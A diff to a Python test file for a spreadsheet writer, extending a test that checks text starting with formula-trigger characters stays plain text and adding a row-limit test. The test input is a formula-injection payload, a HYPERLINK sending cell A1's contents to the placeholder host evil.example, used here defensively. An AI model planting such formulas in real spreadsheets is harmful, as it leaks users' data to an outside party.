@@ -235,7 +235,7 @@ def test_each_measure_of_the_system_is_in_the_days(hall: Path):
     assert {measure.id for measure in MEASURES} <= set(rows_of(hall, "day")[0])
 
 
-@pytest.mark.parametrize("sign", FORMULAS)
+@pytest.mark.parametrize("sign", [*FORMULAS, "\n", "＝", "＋", "－", "＠"])
 def test_no_text_becomes_a_formula(tmp_path: Path, sign: str):
     columns = [Column("a", "甲", "A", "text"), Column("b", "乙", "B", "number")]
     text = f'{sign}HYPERLINK("http://evil.example/?x="&A1)'
@@ -248,8 +248,15 @@ def test_no_text_becomes_a_formula(tmp_path: Path, sign: str):
     (lines,) = sheets(write_xlsx([table], tmp_path, "x", "x")).values()
     assert lines[1][1] == ("n", "-1.5")
     assert lines[1][0][0] == "s"
-    if sign not in "\t\r":
+    if sign not in "\t\r\n":
         assert lines[1][0][1] == text
+
+
+def test_a_table_of_more_rows_than_a_sheet_has_is_told_and_not_cut_off(tmp_path: Path):
+    table = Table("t", "表", "T", [Column("a", "甲", "A", "whole")], [[1]] * 1_048_576)
+    with pytest.raises(OSError, match=r"1048576 rows.*--csv"):
+        write_xlsx([table], tmp_path, "x", "x")
+    assert list(tmp_path.iterdir()) == []
 
 
 def test_a_name_of_the_hall_that_looks_like_a_formula_is_a_text(hall: Path):
